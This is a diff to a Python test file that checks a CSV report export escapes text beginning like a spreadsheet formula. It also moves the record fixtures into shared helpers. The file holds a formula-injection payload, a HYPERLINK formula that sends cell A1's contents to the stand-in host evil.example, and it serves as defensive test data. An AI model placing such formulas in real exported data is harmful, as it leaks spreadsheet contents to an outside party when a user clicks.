@@ -6,7 +6,6 @@ writes them, the CSV read over HTTP."""
 
 import csv
 import io
-from datetime import UTC, datetime, timedelta
 
 import httpx
 import pytest
@@ -15,9 +14,9 @@ from fastapi import FastAPI
 from api.deps import Services
 from api.spreadsheets import Cell, csv_text
 from database.records import write_batches
-from workflows.records import CaseRecord, MilestoneRecord, RecordBatch
+from tests.helpers.records import milestone_record, record_batch
+from workflows.records import RecordBatch
 
-RESOLVED = datetime(2026, 11, 30, 12, tzinfo=UTC)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 HOSTILE = {
     "priority": HYPERLINK,
@@ -31,45 +30,14 @@ HOSTILE = {
 def hostile_batch() -> RecordBatch:
     """A case whose one milestone was met, every text a report groups by starting like a
     formula."""
-    started = RESOLVED - timedelta(minutes=30)
-    milestone = MilestoneRecord(
-        case_id="CSV-1",
+    milestone = milestone_record(
         milestone=HOSTILE["milestone_type"],
-        instance=1,
         account_id=HOSTILE["account"],
-        process="Premium",
-        process_version=1,
         reporting_category=HOSTILE["reporting_category"],
-        color="#D62728",
         priority_at_start=HYPERLINK,
         priority_at_end=HYPERLINK,
-        state="completed",
-        started_at=started,
-        target_at=RESOLVED + timedelta(minutes=30),
-        warned_at=None,
-        violated_at=None,
-        completed_at=RESOLVED,
-        cancelled_at=None,
-        target_seconds=3600,
-        business_elapsed_seconds=1800,
-        stopped_seconds=0,
-        completed_late=False,
-        outcome="met",
-        resolved_at=RESOLVED,
-        as_of=RESOLVED,
     )
-    case = CaseRecord(
-        case_id="CSV-1",
-        account_id=HOSTILE["account"],
-        process="Premium",
-        process_version=1,
-        opened_at=started,
-        closed_at=RESOLVED,
-        sla_state="done",
-        breached=False,
-        as_of=RESOLVED,
-    )
-    return RecordBatch(revision=1, case=case, milestones=[milestone])
+    return record_batch(milestone)
 
 
 @pytest.mark.parametrize("group_by", HOSTILE)
@@ -89,7 +57,8 @@ async def test_text_that_starts_like_a_formula_is_written_as_text(
     assert group[2:4] == total[2:4] == ["1", "1"]
     # The cell is quoted, so no separator or quote inside it ends it early.
     assert f'"\'{HOSTILE[group_by].replace(chr(34), chr(34) * 2)}"' in answer.text
-    assert "\n1,1," not in answer.text  # the numbers stay unquoted numbers
+    # The report's numbers stay numbers: unquoted.
+    assert answer.text.splitlines()[-1] == '"total","",1,1,0,0,0,1.0,1800.0,1800.0'
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b"])
